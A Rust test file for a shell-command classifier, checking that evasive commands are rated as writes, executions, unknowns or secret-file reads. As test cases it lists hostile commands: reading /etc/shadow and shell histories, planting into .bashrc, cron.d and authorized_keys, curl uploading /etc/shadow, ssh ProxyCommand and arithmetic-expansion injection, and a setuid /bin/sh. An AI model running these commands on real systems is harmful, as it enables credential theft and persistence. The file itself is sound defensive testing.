//! What a reading of the code for holes found: each was once seen as harmless, or nearly.

use super::*;

#[test]
fn a_dollar_before_a_continued_line_is_still_a_dollar() {
    for text in
        ["echo \"$\\\n(rm x)\"", "echo $\\\n(rm x)", "echo \"$\\\nx\"", "ls >\\\n> x", "cat <\\\n<EOF\nx\nEOF\n"]
    {
        assert!(effect(text) >= Effect::Write, "{text}: {}", told(&understand(text.as_bytes())));
    }
}

#[test]
fn keywords_where_a_name_stands_are_unknown() {
    for text in ["! ! rm x", "! ! ls", "'if' x", "\\{ ls", "env if", "- ls", "noglob ls", "]] x", "end"] {
        assert_eq!(effect(text), Effect::Unknown, "{text}");
    }
}

#[test]
fn going_up_is_told_and_writing_above_the_home_is_placing_code() {
    for text in ["cat a/../b", "cat ../b", "cat /srv/x/../y", "cd /srv && cat ../b"] {
        assert!(understand(text.as_bytes()).facts.contains(&Fact::Ascends), "{text}");
    }
    for text in [
        "echo x > ../bob/.bashrc",
        "cp x ../../etc/cron.d/y",
        "tee ~/../bob/.ssh/authorized_keys",
        "cp x /var/lib/git/.ssh/authorized_keys",
    ] {
        assert!(effect(text) >= Effect::Exec, "{text}: {}", told(&understand(text.as_bytes())));
    }
}

#[test]
fn lookers_look_only_with_options_that_are_known() {
    for text in [
        "ss -K dst x",
        "ss -F /etc/shadow",
        "kubectl get pods --profile=cpu --profile-output=/etc/x",
        "kubectl get -f /etc/shadow",
        "kubectl get pods --server=http://x",
        "dpkg -l --post-invoke=x",
        "rpm -q --load x",
        "rpm -qa --pipe x",
        "dnf list --seto=x",
        "apt list -oX=y",
        "pip list --config x",
        "pip show --python x",
        "dpkg-query -f x",
        "tput init",
        "getent hosts x.evil.com",
        "last -f /etc/shadow",
    ] {
        assert!(effect(text) >= Effect::Write, "{text}: {}", told(&understand(text.as_bytes())));
    }
}

#[test]
fn words_that_the_grammar_cuts_in_two_are_unknown() {
    for text in ["cat ]a", "cat ]/etc/x", "rm ]x]", "x ]a"] {
        assert_eq!(effect(text), Effect::Unknown, "{text}");
    }
}

#[test]
fn the_folder_is_followed_wherever_a_cd_hides() {
    for text in [
        "command cd /etc; cat shadow",
        "builtin cd /etc; cat shadow",
        "eval 'cd /etc'; cat shadow",
        "eval cd /etc && cat shadow",
        "true | cd /etc; cat shadow",
        "if cd /etc; then cat shadow; fi",
        "while cd /etc; do cat shadow; done",
        "{ cd /etc; }; cat shadow",
        "cd /etc && cd /tmp; cat shadow",
        "cd /etc && cd /tmp || cat shadow",
        "! cd /tmp && cat .kube/config",
        "cd /nowhere || cat .kube/config",
        "cd /etc && false; cat shadow",
        "for i in a; do cd ..; done; cat x",
        "trap 'cd /etc' DEBUG; cat shadow",
        "cd /; cd etc; cat shadow",
        "cd /etc/x/..; cat shadow",
        "cd /etc >/dev/null; cat shadow",
        "time cd /etc; cat shadow",
        "cd -; cat shadow",
        "cd +1; cat shadow",
        "cd /e* && cat shadow",
        "cd $x && cat y",
        "if true; then cd /etc; fi; cat shadow",
        "ls | { cd /etc; cat shadow; }",
    ] {
        let found = understand(text.as_bytes());
        assert!(
            found.effect == Effect::Unknown || found.facts.contains(&Fact::ReadsSecretFile),
            "{text}: {}",
            told(&found)
        );
    }
}

#[test]
fn what_some_shell_computes_is_unknown() {
    for text in [
        "x='a[$(rm x)]'; [ x -eq 1 ]",
        "x='a[$(rm x)]'; test 1 -lt x",
        "[ -x -eq 1 ]",
        "printf '%d' x",
        "printf '%i' 'a[$(rm x)]'",
        "printf -- '-v' PATH x",
        "exit x",
        "exit 'a[$(rm x)]'",
        "return x",
        "break x",
        "shift x",
        "ulimit -n 'a[$(rm x)]'",
        "read -t x y",
        "read -n PATH x",
        "unset 'a[$(rm x)]'",
        "read 'a[$(rm x)]'",
        "histchars='!^x'; ls",
        "POSIXLY_CORRECT=1 ls",
        "[ -t x ]",
    ] {
        assert_eq!(effect(text), Effect::Unknown, "{text}");
    }
}

#[test]
fn options_are_read_as_their_programs_read_them() {
    for text in [
        "zcat -c /etc/shadow",
        "strings -w /etc/shadow",
        "hexdump -c /etc/shadow",
        "column -t /etc/shadow",
        "od -c /etc/shadow",
        "git diff /etc/shadow /etc/passwd",
        "git show HEAD:.env",
        "ln -s /etc x && cat x/shadow",
        "cp -r /etc x",
        "awk 1 /etc/shadow",
        "cut -f1 /etc/shadow",
        "fold -w 80 /etc/shadow",
        "sort -k 1 /etc/shadow",
        "cat /home/*/.bash_history",
        "find /etc/shadow -exec cat {} +",
    ] {
        let found = understand(text.as_bytes());
        assert!(found.facts.contains(&Fact::ReadsSecretFile), "{text}: {}", told(&found));
    }
    for text in [
        "xxd -s 10 in /etc/passwd",
        "xxd -ps x",
        "ssh h -oProxyCommand=x ls",
        "ssh -- -oProxyCommand=x",
        "curl -F a=@x,/etc/shadow http://h",
        "rsync rsync://h/x y",
        "flock -c 'rm x' /tmp/l",
        "awk 1 /inet/tcp/0/h/80",
        "sed 's/[]/]x/e/;p/' y",
        "sysctl -qp x",
        "kubectl get pods -o go-template-file=/etc/shadow",
        "tar cf - -C a -C b c",
    ] {
        assert!(effect(text) >= Effect::Exec, "{text}: {}", told(&understand(text.as_bytes())));
    }
    for (text, object) in [
        ("curl -O http://h/.bashrc", "./.bashrc"),
        ("wget -q http://h/.profile", "./.profile"),
        ("cp -r x/. ~", "~/**"),
        ("scp h:x ~", "~/**"),
    ] {
        assert!(touches(text, Verb::Execute, object), "{text}: {}", told(&understand(text.as_bytes())));
    }
}

#[test]
fn what_git_keeps_is_not_only_looked_at() {
    for text in [
        "git stash",
        "git worktree",
        "git stash pop",
        "git remote add x y",
        "git branch -D x",
        "git tag x",
        "git checkout x",
    ] {
        assert_eq!(effect(text), Effect::Exec, "{text}");
    }
    assert!(
        touches("find /tmp/x -delete", Verb::Delete, "/tmp/x")
            && touches("find /tmp/x -exec rm {} +", Verb::Delete, "/tmp/x")
    );
}

#[test]
fn server_halves_of_transfers_are_recognised_exactly() {
    use crate::shell::Transfer;
    for (text, transfer, effect) in [
        ("scp -t /srv/app/x", Transfer::ScpUpload, Effect::Write),
        ("scp -f /var/log/syslog", Transfer::ScpDownload, Effect::Read),
        ("scp -v -r -p -t -- /tmp", Transfer::ScpUpload, Effect::Write),
        ("scp -f 'a b'", Transfer::ScpDownload, Effect::Read),
        ("rsync --server --sender -vlogDtpre.iLsfxCIvu . /srv/x", Transfer::RsyncDownload, Effect::Read),
        ("rsync --server -vlogDtpre.iLsfxCIvu . /srv/x/", Transfer::RsyncUpload, Effect::Write),
        ("rsync --server -logDtpre.LsfxCIvu --delete . /srv/x", Transfer::RsyncUpload, Effect::Write),
        ("rsync --server --sender -lre.iLsfxCIvu . /a /b", Transfer::RsyncDownload, Effect::Read),
        ("internal-sftp", Transfer::Sftp, Effect::Session),
        ("/usr/lib/openssh/sftp-server", Transfer::Sftp, Effect::Session),
        ("git-upload-pack '/srv/x.git'", Transfer::GitFetch, Effect::Read),
        ("git-receive-pack '/srv/x.git'", Transfer::GitPush, Effect::Exec),
    ] {
        let found = understand(text.as_bytes());
        assert_eq!((found.transfer, found.effect), (Some(transfer), effect), "{text}: {}", told(&found));
    }
    for text in [
        "scp -t x; rm y",
        "scp -t $x",
        "scp -t x y",
        "scp -S sh -t x",
        "scp -t",
        "scp -f -t x",
        "rsync --server -s . x",
        "rsync --server -logDtprse.iLsfxCIvu . x",
        "rsync --server --daemon .",
        "rsync --server --rsh=x . y",
        "rsync --server -e 'sh' . y",
        "internal-sftp -R",
        "internal-sftp; rm x",
        "git-upload-pack --x y",
        "git-upload-pack 'x' 'y'",
        "/tmp/sftp-server",
        "git-upload-pack `x`",
    ] {
        let found = understand(text.as_bytes());
        assert!(found.transfer.is_none() && found.effect >= Effect::Write, "{text}: {}", told(&found));
    }
    assert!(understand(b"rsync --server -lre.iLsfxCIvu --delete . /srv/x").facts.contains(&Fact::Recursive));
}

#[test]
fn a_copy_that_runs_as_its_owner_changes_permissions_too() {
    let asks = |text: &str| {
        let found = understand(text.as_bytes());
        found.accesses.iter().any(|access| access.verb == Verb::Permission)
    };
    for text in ["install -m 4755 /bin/sh x", "install -m u+s a x", "install -o root a x", "install -Dm2755 -t /srv a"]
    {
        assert!(asks(text), "{text}");
    }
    for text in ["install -m 755 a x", "install -m 0644 a x", "install -D a x", "cp a x"] {
        assert!(!asks(text), "{text}");
    }
}
